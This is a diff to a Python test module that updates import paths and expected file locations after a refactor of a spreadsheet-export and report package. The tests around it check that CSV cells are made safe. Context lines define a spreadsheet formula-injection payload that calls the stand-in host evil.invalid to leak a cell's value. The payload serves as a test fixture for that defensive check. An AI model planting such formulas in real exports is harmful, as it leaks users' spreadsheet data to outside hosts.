@@ -13,9 +13,9 @@ from hypothesis import strategies as st
 
 from dispatch_core.asset_list import AssetRow, read_asset_csv
 from dispatch_core.find import MatchRow
-from dispatch_core.report import assets_text, ledger_text, match_report_text
-from dispatch_core.spreadsheet import csv_file, csv_text, plain_cell, safe_cell
+from dispatch_core.text.spreadsheet import csv_file, csv_text, plain_cell, safe_cell
 from dispatch_core.types import DataAsset, Exclusion
+from dispatch_core.views.report import assets_text, ledger_text, match_report_text
 
 ROOT = Path(__file__).resolve().parents[1]
 HYPERLINK = '=HYPERLINK("http://evil.invalid?"&A1,"click")'
@@ -105,7 +105,7 @@ def test_tables_are_drawn_in_one_file_which_makes_their_cells_safe() -> None:
         if isinstance(node, ast.Attribute) and node.attr in ("dataframe", "table")
     }
 
-    assert drawing == {"pages/shared/components.py"}
+    assert drawing == {"pages/shared/widgets/tables.py"}
 
 
 def test_no_other_module_writes_csv() -> None:
@@ -118,4 +118,4 @@ def test_no_other_module_writes_csv() -> None:
         and node.attr in ("writer", "DictWriter", "to_csv", "to_excel")
     }
 
-    assert writing == {"dispatch_core/spreadsheet.py"}
+    assert writing == {"dispatch_core/text/spreadsheet.py"}
